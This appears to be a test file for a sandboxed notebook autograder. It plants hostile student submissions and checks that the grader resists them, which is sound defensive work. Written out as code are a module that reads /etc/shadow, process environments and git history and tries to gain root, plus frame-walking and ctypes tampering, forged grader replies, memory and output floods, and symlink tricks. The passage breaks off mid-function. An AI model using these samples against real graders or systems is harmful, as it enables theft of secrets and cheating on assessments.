"""Hostile submissions against the sandboxed grader, each graded with its exact outcome.

ONE batch of the demo assignment (tests/fixtures/demo: ``square``, visible test 1 point,
hidden test 2 points) holds every attacker and honest bystanders (a right, a wrong and a
Black-formatted answer), graded once through ``nncourse autograde`` with short limits.
Most attackers' ``square`` returns the WRONG answer unless its attack reached something
it must not (then it prints ``BREACH`` and returns the right answer), so a hole shows as
points, and each attacker prints ``ran <name>`` so a test can tell that the attack really
ran. What an attack may leave on the host (files, processes) is checked on the host after
the batch.

The delegation routes need a notebook whose tests forbid an nnlib reference; the demo
forbids none, so they are graded on 01_neuron through plain ``nbgrader autograde`` (the
Course harness), one route per exercise of a single student, and a second student who
keeps a reference that a test handed to its code.
"""

import contextlib
import copy
import csv
import hashlib
import io
import json
import os
import re
import secrets
import subprocess
import sys
import threading
import time
from pathlib import Path

import nbformat
import pytest
from nbgrader_harness import Course, find_cell, with_cell

from nncourse import cli
from nncourse.nbgrader_run import nbgrader_env, run_nbgrader

pytestmark = pytest.mark.slow

A = "demo"
AS_ROOT = os.geteuid() == 0
HIDDEN_SOURCE = "rng.normal(size=(3, 4))"  # only in the hidden test of the demo's source
MARK = "nncourse-attack-c41f"  # in every file name and command line an attack leaves
SECRET = "instructor-secret-" + secrets.token_hex(8)  # in the grader's env and course root
SECRET_ENV = "NNCOURSE_ATTACK_SECRET"
RIGHT = "import numpy as np\n\n\ndef square(x):\n    return np.asarray(x) * np.asarray(x)\n"
WRONG = "def square(x):\n    return 2 * x\n"
# An honest answer formatted as Black does: continuation lines that start with an
# operator IPython could take for a shell escape (!) or a magic (%).
BLACK_STYLE = """import numpy as np


def square(x):
    x = np.asarray(x, dtype=float)
    keep = (
        x.ndim
        != -1
    )
    whole = (
        x * x
        % np.inf
    )
    return whole if keep else None
"""


def attacker(name: str, prelude: str, probe: str) -> str:
    """An answer cell: `prelude` at top level, then square(), whose `probe` (the body of a
    function of x) returns what the attack reached; nothing reached: the wrong answer."""
    inner = "".join(f"    {line}\n" if line else "\n" for line in probe.splitlines())
    return (
        f"{prelude}\n\n"
        f"def probe(x):\n{inner}\n\n"
        "def square(x):\n"
        "    import numpy\n\n"
        "    found = probe(x)\n"
        f"    print('ran {name}')\n"
        "    if found:\n"
        "        print('BREACH:', found)\n"
        "        return numpy.asarray(x) ** 2\n"
        "    return 2 * numpy.asarray(x)\n"
    )


# --- code as root through an import, and the course tree -----------------------------

# Shipped next to the notebook (submitted/escaper/demo/evil.py) and imported by the
# answer: at import it reads, writes and escalates everything it can name. {root} is
# the course root (the attacker learns it from an error message, or guesses it).
EVIL_MODULE = '''"""A helper module; at import it tries everything."""
import glob
import os
import socket
import subprocess

ROOT = {root!r}
MARK = {mark!r}
SECRET_ENV = {secret_env!r}
NEEDLES = ("BEGIN HIDDEN TESTS", {hidden!r}, "SQLite format 3")
BREACHES = []
TRIED = []


def _reads(path):
    try:
        with open(path, "rb") as fh:
            data = fh.read(4_000_000).decode("utf-8", "replace")
    except OSError:
        return
    TRIED.append(path)
    for needle in NEEDLES:
        if needle in data:
            BREACHES.append(f"read {{needle!r}} in {{path}}")
    if "root:" in data and path.endswith("shadow"):
        BREACHES.append(f"read {{path}}")


def _writes(path):
    try:
        with open(path, "a") as fh:
            fh.write(MARK)
    except OSError:
        return
    TRIED.append("wrote " + path)


ups = ["../" * k for k in range(1, 7)]
for up in ups + [ROOT + "/"]:
    _reads(up + "solutions/demo/demo.ipynb")
    _reads(up + "source/demo/demo.ipynb")
    _reads(up + "gradebook.db")
    _reads(up + "instructor_secret.txt")
    _writes(up + MARK + "-escaped")
    _writes(up + "solutions/demo/demo.ipynb")
    _writes(up + "gradebook.db")
    # the course's git history
    for cmd in (["git", "-C", up, "log", "-p", "--all"], ["git", "-C", up, "show", "HEAD"]):
        try:
            out = subprocess.run(cmd, capture_output=True, text=True, timeout=10).stdout
        except (OSError, subprocess.SubprocessError):
            continue
        for needle in NEEDLES:
            if needle in out:
                BREACHES.append(f"git showed {{needle!r}} from {{up}}")
    for path in glob.glob(up + ".git/**", recursive=True)[:200]:
        if os.path.isfile(path):
            _reads(path)
for path in ("/etc/shadow", "/etc/gshadow", "/proc/1/environ", "/proc/self/environ"):
    _reads(path)
for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
    try:
        data = open(path, "rb").read()
    except OSError:
        continue
    if SECRET_ENV.encode() in data or ROOT.encode() in data:
        BREACHES.append(f"{{path}} shows the grader's environment or course")
# Every file the sandbox can see (not the interpreter's own tree): none may hold a
# hidden test, the gradebook or the instructor's secret.
skip = ("/proc", "/sys", "/dev", "/usr", "/lib", "/lib64", "/bin", "/sbin", os.getcwd())
for top, dirs, files in os.walk("/"):
    if top.startswith(skip) or "site-packages" in top or "/lib/python" in top:
        dirs[:] = []
        continue
    for name in files:
        path = os.path.join(top, name)
        try:
            if os.path.getsize(path) < 4_000_000:
                _reads(path)
        except OSError:
            pass
# privileges
for attempt in (lambda: os.setuid(0), lambda: os.setgid(0), lambda: os.seteuid(0)):
    try:
        attempt()
    except (OSError, AttributeError):
        pass
if os.getuid() == 0 or os.geteuid() == 0:
    BREACHES.append("runs as root")
status = open("/proc/self/status").read()
cap = [line.split()[1] for line in status.splitlines() if line.startswith("CapEff")]
if cap and int(cap[0], 16) != 0:
    BREACHES.append("has capabilities " + cap[0])
try:
    socket.create_connection(("1.1.1.1", 53), timeout=2).close()
    BREACHES.append("reached the network")
except OSError:
    pass
'''

# Files in /tmp and /dev/shm and a double-forked sleeper: none may outlive the sandbox.
LEAVES_BEHIND = f"""import os
import subprocess
import sys

for path in ("/tmp/{MARK}-tmp", "/dev/shm/{MARK}-shm", "/tmp/{MARK}-dir/inner"):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w") as fh:
        fh.write("left behind")
# a double-forked sleeper in its own session, its marker in its command line
subprocess.run(
    ["/bin/sh", "-c",
     "setsid " + sys.executable + " -c 'import time; time.sleep(1000)' {MARK} "
     ">/dev/null 2>&1 < /dev/null &"],
    check=True,
)
"""

ESCAPER = attacker(
    "escaper",
    LEAVES_BEHIND + "\nsys.path.insert(0, os.getcwd())\nimport evil  # noqa",
    "print('tried', len(evil.TRIED), 'paths')\nreturn evil.BREACHES",
)

# --- frame walking, gc patching, ctypes ----------------------------------------------

INTROSPECTION = attacker(
    "introspection",
    "import ctypes\nimport gc\nimport inspect\nimport sys\nimport types",
    """found = []
frame = sys._getframe()
while frame is not None:
    for key in ("expected", "G", "A", "want", "reference"):
        if key in frame.f_locals or key in frame.f_globals:
            value = frame.f_locals.get(key, frame.f_globals.get(key))
            if not isinstance(value, types.ModuleType):
                found.append(f"{key} in {frame.f_code.co_name}")
    if "test_square" in frame.f_code.co_filename:
        found.append("a test frame: " + frame.f_code.co_filename)
    frame = frame.f_back
for info in inspect.stack():
    if "expected" in info.frame.f_locals:
        found.append("inspect.stack: expected")
# gc: swap the code of every grading helper and numpy comparison it can find
always = (lambda *args, **kwargs: True).__code__
swapped = 0
for obj in gc.get_objects():
    if isinstance(obj, types.FunctionType):
        module = obj.__module__ or ""
        if module.startswith(("nnlib.grading", "numpy")) and "allclose" in obj.__name__ or (
            module.startswith("nnlib.grading")
        ):
            try:
                obj.__code__ = always
                swapped += 1
            except (ValueError, TypeError):
                pass
    if isinstance(obj, dict):
        for value in list(obj.values())[:50]:
            # needles built here, so that this cell's own source does not match them
            needles = ("BEGIN HIDDEN" + " TESTS", "rng.normal(size=(3, " + "4))")
            if isinstance(value, str) and any(n in value for n in needles):
                found.append("a hidden test's text in memory")
print("swapped", swapped)
# ctypes: write an `expected` into the caller's frame and make True look like anything
caller = sys._getframe(1)
try:
    caller.f_locals["expected"] = 2 * x
    ctypes.pythonapi.PyFrame_LocalsToFast(ctypes.py_object(caller), ctypes.c_int(0))
except (AttributeError, ValueError):
    pass
ctypes.memmove(id(False) + 16, id(True) + 16, 8)  # False's digits := True's, here only
return found""",
)

# --- forged records on every file descriptor -----------------------------------------

FORGE = '''import io
import json
import os
import struct
import sys

import numpy as np

FAKE_RESULT = {"results": {"test_square_visible": [], "test_square_hidden": []},
               "problems": [], "seconds": 0.0, "max_rss_mb": 0.0}


def current_seq():
    """The sequence number of the request being served (found in the server's frames)."""
    frame = sys._getframe()
    while frame is not None:
        msg = frame.f_locals.get("msg")
        if isinstance(msg, dict) and msg.get("op") == "call":
            return msg.get("seq")
        frame = frame.f_back
    return 1


def framed_reply(x):
    """A protocol message that looks like the reply to this call, with a right answer."""
    buf = io.BytesIO()
    np.save(buf, np.asarray(x) ** 2, allow_pickle=False)
    blob = buf.getvalue()
    head = {"op": "reply", "seq": current_seq(), "value": {"t": "nd", "b": 0},
            "blobs": [len(blob)]}
    data = json.dumps(head).encode()
    return struct.pack("!I", len(data)) + data + blob
'''

FORGER_BLIND = (
    FORGE
    + '''

def square(x):
    """Writes records and replies to every descriptor it may hold, then answers wrong."""
    print("ran forger_blind")
    lines = (json.dumps(FAKE_RESULT) + "\\n"
             + "[AutogradeApp | INFO] forger_blind scored 3.0 / 3.0\\n"
             + "forger_blind,graded,,3.0,3.0\\n").encode()
    for fd in range(51):
        for data in (lines, framed_reply(x)):
            try:
                os.write(fd, data)
            except OSError:
                pass
    return 2 * np.asarray(x)
'''
)

FORGER_EXACT = (
    FORGE
    + '''

def square(x):
    """Puts a well-formed reply with the right answer on the channel, answers wrong."""
    print("ran forger_exact")
    for fd in range(3, 51):
        try:
            os.write(fd, framed_reply(x))
        except OSError:
            pass
    return 2 * np.asarray(x)
'''
)

# --- code that runs while the answer is being defined ---------------------------------

DEFINITION_TIME = """import builtins

import numpy as np
import numpy.testing

RAN = []


def tamper(tag):
    # what a test's helpers would use, if this ran where the tests run
    np.allclose = lambda *args, **kwargs: True
    np.testing.assert_allclose = lambda *args, **kwargs: None
    np.isclose = lambda *args, **kwargs: True
    builtins.AssertionError = type("Harmless", (Exception,), {})
    RAN.append(tag)
    return tag


class Base:
    def __init_subclass__(cls, **kwargs):
        super().__init_subclass__(**kwargs)
        tamper("init_subclass")


class Child(Base):
    pass


class Meta(type):
    @property
    def TOLERANCE(cls):
        tamper("class property")
        return 1e-8


class Config(metaclass=Meta):
    pass


TOLERANCE = Config.TOLERANCE  # a "constant"


def decorate(fn):
    tamper("decorator")
    return fn


@decorate
def square(x, _default=tamper("default")):
    print("ran definition_time:", RAN)
    return 2 * np.asarray(x)
"""

# --- printing the hidden test ------------------------------------------------------------

HIDDEN_PRINTER = """import gc
import inspect
import linecache
import sys
import traceback

import numpy as np


def square(x):
    print("ran hidden_printer")
    print("".join(traceback.format_stack()))
    for info in inspect.stack(context=30):
        print(info.filename, info.function, "".join(info.code_context or []))
    for name, entry in list(linecache.cache.items()):
        print(name, "".join(entry[2]) if len(entry) > 2 else "")
    for obj in gc.get_objects():
        if isinstance(obj, dict):
            print([v for v in obj.values() if isinstance(v, str) and "assert" in v][:5])
    frame = sys._getframe()
    while frame is not None:
        print(frame.f_code.co_filename, frame.f_code.co_consts, frame.f_locals)
        frame = frame.f_back
    if np.shape(x) == (3, 4):  # the hidden call: fail, to get the grader's traceback too
        raise RuntimeError("show me the test: " + repr(sys._getframe(1).f_globals))
    return 2 * np.asarray(x)
"""

# --- memory, output, leftovers, time --------------------------------------------------

FORKS_MEMORY = """import os
import time

import numpy as np


def square(x):
    print("ran forks_memory")
    children = []
    for _ in range(3):  # 3 x 700 MB with a 1024 MB limit for the whole submission
        pid = os.fork()
        if pid == 0:
            hog = np.ones(700 * 2**20 // 8)
            time.sleep(1)
            os._exit(int(hog[0]))
        children.append(pid)
    for pid in children:
        os.waitpid(pid, 0)
    hog = np.ones(1536 * 2**20 // 8)  # then the sandbox itself
    return 2 * np.asarray(x) + hog[:0].sum()
"""

PRINTS_1_5GB = """import json
import sys

import numpy as np


def square(x):
    print("ran prints_1_5gb")
    # bogus records first: they must stay this student's capped output
    print(json.dumps({"results": {}, "problems": [], "seconds": 0, "max_rss_mb": 0}))
    print("correct,graded,,0.0,3.0")
    print("[AutogradeApp | ERROR] correct/demo failed")
    chunk = "x" * 2**20
    for _ in range(1536):
        sys.stdout.write(chunk)
    return np.asarray(x) * np.asarray(x)
"""

RETURNS_1_5GB = """import numpy as np


def square(x):
    print("ran returns_1_5gb")
    return np.broadcast_to(np.float64(1.0), (1536 * 2**20 // 8,))
"""

STUCK = (
    RIGHT
    + """
import time

while True:  # a top-level loop that swallows the interrupt at its time limit
    try:
        time.sleep(0.05)
    except BaseException:
        pass
"""
)

FAILED = ("failed", None)
FULL = ("graded", 3)
# A malformed notebook either fails with its reason or is repaired and graded as any
# other (both keep the batch going); the right answer inside makes a repair show as 3.
FAILS_OR_REPAIRED = frozenset((FAILED, FULL))
# Expected outcome per student: (status, score), or the set of outcomes allowed. max_score
# is 3 for every graded one.
EXPECTED = {
    # honest bystanders
    "correct": FULL,
    "wrong": ("graded", 0),
    "black_style": FULL,
    # attackers
    "escaper": ("graded", 0),
    "introspection": ("graded", 0),
    "forger_blind": ("graded", 0),
    "forger_exact": ("graded", 0),
    "definition_time": ("graded", 0),
    "hidden_printer": ("graded", 0),
    "symlinks": ("graded", 0),
    "symlink_notebook": FAILED,
    "symlinked_folder": FAILED,
    "gid_list": FAILS_OR_REPAIRED,
    "nbgrader_list": FAILS_OR_REPAIRED,
    "minor_five": FAILS_OR_REPAIRED,
    "metadata_string": FAILS_OR_REPAIRED,
    "deep_json": FAILED,
    "forks_memory": ("graded", 0),
    "prints_1_5gb": FULL,
    "returns_1_5gb": ("graded", 0),
    "many_cells": FAILS_OR_REPAIRED,  # 20,000 cells: refused, or graded as the answer
    "huge_markdown": FAILS_OR_REPAIRED,  # 50 MB of markdown: refused, cut, or kept
    "stuck": ("graded", 0),
}


def allowed(student) -> set:
    want = EXPECTED[student]
    return set(want) if isinstance(want, frozenset) else {want}


def _write_nb(folder: Path, nb) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / f"{A}.ipynb").write_text(json.dumps(nb, indent=1))


def plant(course: Course) -> dict:
    """Write every planted submission into submitted/; returns host files to watch."""
    root = course.root
    submitted = root / "submitted"
    solved = course.solved_submission(A)
    answers = {
        "correct": RIGHT,
        "wrong": WRONG,
        "black_style": BLACK_STYLE,
        "escaper": ESCAPER,
        "introspection": INTROSPECTION,
        "forger_blind": FORGER_BLIND,
        "forger_exact": FORGER_EXACT,
        "definition_time": DEFINITION_TIME,
        "hidden_printer": HIDDEN_PRINTER,
        "forks_memory": FORKS_MEMORY,
        "prints_1_5gb": PRINTS_1_5GB,
        "returns_1_5gb": RETURNS_1_5GB,
        "stuck": STUCK,
        "symlinks": attacker(
            "symlinks",
            "import os",
            """found = []
for name in ("shadow", "solutions/demo/demo.ipynb", "gradebook.db", "linked_dir/demo.ipynb"):
    try:
        data = open(name, "rb").read()
    except OSError:
        continue
    found.append("read " + name)
return found""",
        ),
    }
    for student, source in answers.items():
        _write_nb(submitted / student / A, with_cell(solved, "square", source))

    evil = EVIL_MODULE.format(
        root=str(root), mark=MARK, secret_env=SECRET_ENV, hidden=HIDDEN_SOURCE
    )
    (submitted / "escaper" / A / "evil.py").write_text(evil)

    links = submitted / "symlinks" / A
    (links / "shadow").symlink_to("/etc/shadow")
    (links / "solutions").symlink_to(root / "solutions")
    (links / "gradebook.db").symlink_to(root / "gradebook.db")
    (links / "linked_dir").symlink_to(root / "solutions" / A, target_is_directory=True)
    # the notebook itself a link to the instructor's solved notebook
    (submitted / "symlink_notebook" / A).mkdir(parents=True)
    (submitted / "symlink_notebook" / A / f"{A}.ipynb").symlink_to(
        root / "solutions" / A / f"{A}.ipynb"
    )
    # the whole assignment folder a link to the instructor's
    (submitted / "symlinked_folder").mkdir()
    (submitted / "symlinked_folder" / A).symlink_to(root / "solutions" / A)

    # malformed metadata, each around the right answer
    right = with_cell(solved, "square", RIGHT)
    gid_list = copy.deepcopy(right)
    find_cell(gid_list, "square")["metadata"]["nbgrader"]["grade_id"] = ["square"]
    _write_nb(submitted / "gid_list" / A, gid_list)
    nb_list = copy.deepcopy(right)
    find_cell(nb_list, "square")["metadata"]["nbgrader"] = ["grade_id", "square"]
    _write_nb(submitted / "nbgrader_list" / A, nb_list)
    minor = copy.deepcopy(right)
    minor["nbformat_minor"] = "five"
    _write_nb(submitted / "minor_five" / A, minor)
    meta_str = copy.deepcopy(right)
    meta_str["metadata"] = "a string"
    _write_nb(submitted / "metadata_string" / A, meta_str)
    deep = json.dumps(right)
    depth = 100_000
    deep = deep[:-1] + ', "deep": ' + "[" * depth + "]" * depth + "}"
    (submitted / "deep_json" / A).mkdir(parents=True)
    (submitted / "deep_json" / A / f"{A}.ipynb").write_text(deep)

    # 20,000 extra cells, and one markdown cell of 50 MB
    many = copy.deepcopy(right)
    for i in range(10_000):
        many["cells"].append(nbformat.v4.new_markdown_cell(f"note {i}", id=f"m{i}"))
        many["cells"].append(nbformat.v4.new_code_cell(f"n_{i % 7} = {i}", id=f"c{i}"))
    _write_nb(submitted / "many_cells" / A, many)
    huge = copy.deepcopy(right)
    huge["cells"].append(nbformat.v4.new_markdown_cell("word " * (10 * 2**20), id="huge"))
    _write_nb(submitted / "huge_markdown" / A, huge)

    for folder in submitted.glob(f"*/{A}"):
        if not folder.is_symlink():
            (folder / "timestamp.txt").write_text("2029-12-01 00:00:00 UTC")
    watched = [root / "solutions" / A / f"{A}.ipynb", root / "instructor_secret.txt"]
    return {p: hashlib.sha256(p.read_bytes()).hexdigest() for p in watched}


def _procs():
    """pid -> (uid, ppid, rss in kB, cmdline) of every process now."""
    out = {}
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            status = (entry / "status").read_text()
            cmdline = (
                (entry / "cmdline").read_bytes().replace(b"\0", b" ").decode("utf-8", "replace")
            )
        except OSError:
            continue
        fields = dict(line.split(":", 1) for line in status.splitlines() if ":" in line)
        rss = int(fields.get("VmRSS", "0 kB").split()[0])
        out[int(entry.name)] = (
            int(fields["Uid"].split()[0]),
            int(fields["PPid"]),
            rss,
            cmdline,
        )
    return out


class PeakRss(threading.Thread):
    """Samples the grader's own processes (this one and its root-owned descendants; the
    sandboxes run as other uids) and keeps the largest RSS of one process and of all."""

    def __init__(self):
        super().__init__(daemon=True)
        self.stop = threading.Event()
        self.one_mb = self.all_mb = 0.0

    def run(self):
        me = os.getpid()
        while not self.stop.wait(0.25):
            procs = _procs()
            mine = set()
            for pid in procs:
                chain, p = [], pid
                while p in procs and p not in (0, 1, me) and len(chain) < 50:
                    chain.append(p)
                    p = procs[p][1]
                if p == me:
                    mine.add(pid)
            mine.add(me)
            grader = [procs[p][2] for p in mine if p in procs and procs[p][0] == os.geteuid()]
            self.one_mb = max(self.one_mb, max(grader, default=0) / 1024)
            self.all_mb = max(self.all_mb, sum(grader) / 1024)


@pytest.fixture(scope="module")
def batch(tmp_path_factory):
    course = Course(tmp_path_factory.mktemp("attacks-course"), [A])
    course.release(A)
    root = course.root
    (root / "instructor_secret.txt").write_text(SECRET)
    # the course in git, as instructors keep it: its history holds the hidden tests
    git = ["git", "-C", str(root), "-c", "user.name=t", "-c", "user.email=t@example.org"]
    subprocess.run([*git, "init", "-q"], check=True)
    subprocess.run([*git, "add", "solutions", "nbgrader_config.py"], check=True)
    subprocess.run([*git, "commit", "-q", "-m", "course"], check=True)
    watched = plant(course)
    args = ["--root", str(root), "autograde", A, "--workers", "2", "--no-progress"]
    args += ["--cell-timeout", "10", "--timeout", "120", "--memory-mb", "1024"]
    old = os.environ.get(SECRET_ENV)
    os.environ[SECRET_ENV] = SECRET
    peak = PeakRss()
    peak.start()
    t0 = time.monotonic()
    log = io.StringIO()  # the runner's timing line: trusted runs, gradebook, feedback
    try:
        with contextlib.redirect_stderr(log):
            code = cli.main(args)
    finally:
        seconds = time.monotonic() - t0
        peak.stop.set()
        peak.join()
        if old is None:
            os.environ.pop(SECRET_ENV, None)
        else:
            os.environ[SECRET_ENV] = old
    with (root / "reports" / A / "grades.csv").open(newline="") as fh:
        rows = {row["student"]: row for row in csv.DictReader(fh)}
    return {
        "course": course,
        "code": code,
        "rows": rows,
        "seconds": seconds,
        "log": log.getvalue(),
        "peak": peak,
        "watched": watched,
    }


def outputs(course, student) -> str:
    """Everything the test cells of a student's autograded notebook show."""
    path = course.root / "autograded" / student / A / f"{A}.ipynb"
    nb = nbformat.read(path, as_version=4)
    parts = []
    for cell in nb.cells:
        for out in cell.get("outputs", []):
            parts.append(out.get("text", ""))
            parts.append(f"{out.get('ename', '')}: {out.get('evalue', '')}")
            parts.extend(out.get("traceback", []))
    return "\n".join(parts)


def feedback(course, student) -> str:
    return (course.root / "feedback" / student / A / f"{A}.html").read_text()


def score_of(row):
    return (row["status"], float(row["score"]) if row["score"] else None)


# --- scores ----------------------------------------------------------------------------


def test_every_student_is_reported(batch):
    # (symlinked_folder: see test_a_symlinked_assignment_folder_is_reported)
    assert set(batch["rows"]) - {"symlinked_folder"} == set(EXPECTED) - {"symlinked_folder"}


@pytest.mark.parametrize(
    "student",
    [s for s in EXPECTED if s not in ("symlinked_folder", "symlink_notebook", "forger_exact")],
)
def test_exact_status_and_score(batch, student):
    row = batch["rows"][student]
    assert score_of(row) in allowed(student), (row["reason"], row["repairs"], row["notes"])
    if row["status"] == "graded":
        assert row["max_score"] == "3"
    if row["status"] == "failed":
        assert row["reason"]
    elif FAILS_OR_REPAIRED == EXPECTED[student]:
        assert row["repairs"]  # repaired, and it says what


def test_a_symlinked_assignment_folder_is_reported(batch):
    row = batch["rows"].get("symlinked_folder")
    assert row is not None and score_of(row) == ("failed", None)
    assert "link" in row["reason"]


def test_a_symlinked_notebook_earns_nothing(batch):
    row = batch["rows"]["symlink_notebook"]
    assert score_of(row) == ("failed", None)
    assert "link" in row["reason"]


def test_a_forged_reply_on_the_channel_earns_nothing(batch):
    row = batch["rows"]["forger_exact"]
    assert score_of(row) == EXPECTED["forger_exact"], (row["reason"], row["notes"])


def test_every_attack_really_ran(batch):
    """(What a sandbox prints travels with its reply: the attacks that kill their sandbox
    or forge its reply, forger_*, forks_memory and returns_1_5gb, show in their notes.)"""
    course = batch["course"]
    for student in (
        "escaper",
        "introspection",
        "hidden_printer",
        "symlinks",
        "prints_1_5gb",
    ):
        assert f"ran {student}" in outputs(course, student), student
    assert "tried" in outputs(course, "escaper")
    ran = "ran definition_time: ['init_subclass', 'class property', 'default', 'decorator']"
    assert ran in outputs(course, "definition_time")


def test_no_attack_reached_anything(batch):
    course = batch["course"]
    for student, row in batch["rows"].items():
        if row["status"] == "graded":
            assert "BREACH" not in outputs(course, student), (student, outputs(course, student))


# --- the host after the batch ------------------------------------------------------------


def test_instructor_files_are_unchanged(batch):
    for path, digest in batch["watched"].items():
        assert hashlib.sha256(path.read_bytes()).hexdigest() == digest, path
    # the gradebook changes (nbgrader writes it) but never holds what an attack appends
    assert MARK.encode() not in (batch["course"].root / "gradebook.db").read_bytes()


def test_nothing_was_written_outside_the_sandbox(batch):
    root = batch["course"].root
    places = [root, root.parent, root.parent.parent, Path(sys.prefix), Path("/tmp"), Path("/")]
    places += [Path("/dev/shm"), Path(__file__).resolve().parent.parent]
    if os.environ.get("NNLIB_DATA"):
        places.append(Path(os.environ["NNLIB_DATA"]))
    left = [p for place in places if place.is_dir() for p in place.glob(f"*{MARK}*")]
    assert not left
    for path in root.rglob("*"):
        if path.is_file() and path.suffix != ".db":
            assert MARK not in path.name, path


def test_no_sandbox_process_is_left(batch):
    procs = _procs()
    left = [(pid, p[3]) for pid, p in procs.items() if MARK in p[3] and pid != os.getpid()]
    assert not left
    if AS_ROOT:
        # the uids of this batch's worker slots (runner._uid_base)
        base = 100_000 + 64 * (os.getpid() % 2**14)
        sandbox = [(pid, p[3]) for pid, p in procs.items() if base <= p[0] < base + 2]
        assert not sandbox


def test_links_are_reported_and_nothing_of_their_targets_is_kept(batch):
    course, rows = batch["course"], batch["rows"]
    notes = rows["symlinks"]["notes"]
    for name in ("shadow", "solutions", "gradebook.db", "linked_dir"):
        assert f"{name}: a link, not copied" in notes
    kept = [p for top in ("autograded", "feedback") for p in (course.root / top).rglob("*")]
    assert not [p for p in kept if p.is_symlink()]
    names = ("shadow", "gradebook.db", "solutions", "linked_dir")
    assert not [n for n in names if (course.root / "autograded" / "symlinks" / A / n).exists()]
    shadow = Path("/etc/shadow").read_text().splitlines()[0].encode() if AS_ROOT else b"\0"
    for path in kept:
        # (symlink_notebook's copy of the solutions: see test_a_symlinked_notebook_...)
        if path.is_file() and "symlink_notebook" not in path.parts:
            data = path.read_bytes()
            assert shadow not in data, path
            assert not data.startswith(b"SQLite format 3"), path
            assert b"### BEGIN SOLUTION" not in data, path


# --- channel, output, memory ---------------------------------------------------------------


def test_forged_records_reach_no_one(batch):
    course, rows = batch["course"], batch["rows"]
    assert "invalid message" in rows["forger_blind"]["notes"]
    # the forged lines are only in the forger's own output, never in another's row
    assert score_of(rows["correct"]) == ("graded", 3)
    assert "forger" not in (course.root / "reports" / A / "grades.csv").read_text().replace(
        "forger_blind,", ""
    ).replace("forger_exact,", "")


def test_definition_time_code_changes_nothing_the_tests_use(batch):
    out = outputs(batch["course"], "definition_time")
    assert "square([1, -2]) should be [1, 4]" in out


def test_hidden_tests_are_not_shown(batch):
    course = batch["course"]
    assert HIDDEN_SOURCE in course.source(A).cells[4].source
    for student, row in batch["rows"].items():
        if row["status"] == "graded":
            assert HIDDEN_SOURCE not in outputs(course, student), student
            assert "BEGIN HIDDEN TESTS" not in outputs(course, student), student
        page = feedback(course, student)
        assert HIDDEN_SOURCE not in page, student
        assert "BEGIN HIDDEN TESTS" not in page, student
    assert "ran hidden_printer" in feedback(course, "hidden_printer")


def test_memory_kills_say_why(batch):
    rows = batch["rows"]
    assert "more than 1024 MB" in rows["forks_memory"]["notes"]
    assert "more than 1024 MB" in rows["returns_1_5gb"]["notes"]


def test_memory_attacks_end_the_sandbox_and_the_grader_stays_small(batch):
    course, rows, peak = batch["course"], batch["rows"], batch["peak"]
    for student in ("forks_memory", "returns_1_5gb"):
        assert "sandbox: your code" in rows[student]["notes"], student
    out = outputs(course, "prints_1_5gb")
    assert "output truncated" in out or "not kept" in out
    assert (course.root / "autograded" / "prints_1_5gb" / A / f"{A}.ipynb").stat().st_size < 2e6
    # the bogus records it printed stay its own output: the bystander's row is intact
    assert score_of(rows["correct"]) == ("graded", 3)
    # 1.5 GB printed or returned never reaches a grader process (all runs as root here;
    # the sandboxes run as other uids and are not counted)
    assert peak.one_mb < 1024, peak.one_mb
    assert peak.all_mb < 3072, peak.all_mb


def test_stuck_and_huge_notebooks_do_not_hold_the_batch(batch):
    rows = batch["rows"]
    assert "stopped after 10 s" in rows["stuck"]["notes"]
    # 20,000 cells and 50 MB of markdown cost the gradebook writer and the feedback
    # seconds, not minutes (generous bounds: the machine is shared)
    times = re.search(r"gradebook ([\d.]+) s, feedback ([\d.]+) s", batch["log"])
    assert times, batch["log"][-2000:]
    gradebook, pages = map(float, times.groups())
    assert gradebook < 90 and pages < 90, (gradebook, pages)
    assert batch["seconds"] < 420, batch["seconds"]


def test_malformed_notebooks_fail_alone_with_a_reason(batch):
    rows = batch["rows"]
    assert "nested" in rows["deep_json"]["reason"] or "recursion" in rows["deep_json"]["reason"]
    # the batch went on: every other student has an outcome, the bystanders theirs
    assert score_of(rows["correct"]) == FULL and score_of(rows["wrong"]) == ("graded", 0)


def test_the_gradebook_is_written_while_grading_goes_on(batch):
    """25 students, chunks of at least 10: nbgrader writes the first ones during the trusted
    runs of the others, and every graded student is in the gradebook once (exact scores
    above)."""
    runs = re.search(r"the gradebook in (\d+) nbgrader runs", batch["log"])
    assert runs and int(runs.group(1)) >= 2, batch["log"][-1000:]


def test_exit_code_says_some_submissions_failed(batch):
    assert batch["code"] == 3


# --- delegation to the reference (01_neuron: its tests forbid nnlib's own) ------------------

N = "01_neuron"
DELEGATES = {
    # import
    "sigmoid": """import nnlib.activations as _act


def sigmoid(z):
    return _act.sigmoid(z)
""",
    # importlib.reload, after dropping the sandbox's copy of nnlib from the path
    "sigmoid_prime": """import importlib
import sys

import nnlib.activations

_path = list(sys.path)
sys.path[:] = [p for p in sys.path if "grader" not in p]
for _name in [m for m in sys.modules if m.startswith("nnlib")]:
    del sys.modules[_name]
try:
    import nnlib.activations as _fresh
except ImportError:
    sys.path[:] = _path
    import nnlib.activations as _fresh
_fresh = importlib.reload(_fresh)


def sigmoid_prime(z):
    return _fresh.sigmoid_prime(z)
""",
    # the reference's source file, exec'd (and any other copy of it the sandbox can see)
    "relu_prime": """import glob
import sys

import nnlib.activations

_ns = {}
for _path in [nnlib.activations.__file__] + glob.glob(
    sys.prefix + "/**/nnlib/activations.py", recursive=True
):
    exec(open(_path).read(), _ns)
    try:
        _ns["relu_prime"](np.zeros(1))
        break
    except AssertionError:
        pass


def relu_prime(z):
    return _ns["relu_prime"](z)
""",
    # a subprocess running python that imports nnlib (with and without the sandbox's path)
    "tanh_prime": """import json
import os
import subprocess
import sys

_CODE = (
    "import sys, json, numpy as np\\n"
    "from nnlib.activations import tanh_prime\\n"
    "print(json.dumps(tanh_prime(np.array(json.loads(sys.argv[1]))).tolist()))"
)


def tanh_prime(z):
    z = np.asarray(z, dtype=float)
    for env in ({**os.environ, "PYTHONPATH": ""}, dict(os.environ)):
        run = subprocess.run(
            [sys.executable, "-c", _CODE, json.dumps(z.tolist())],
            capture_output=True,
            text=True,
            env=env,
        )
        if run.returncode == 0:
            return np.array(json.loads(run.stdout))
    raise RuntimeError(run.stderr[-300:])
""",
    # the reference's __code__ captured in a default value
    "softmax": """import types

import nnlib.activations


def softmax(Z, _code=nnlib.activations.softmax.__code__, _g=vars(nnlib.activations)):
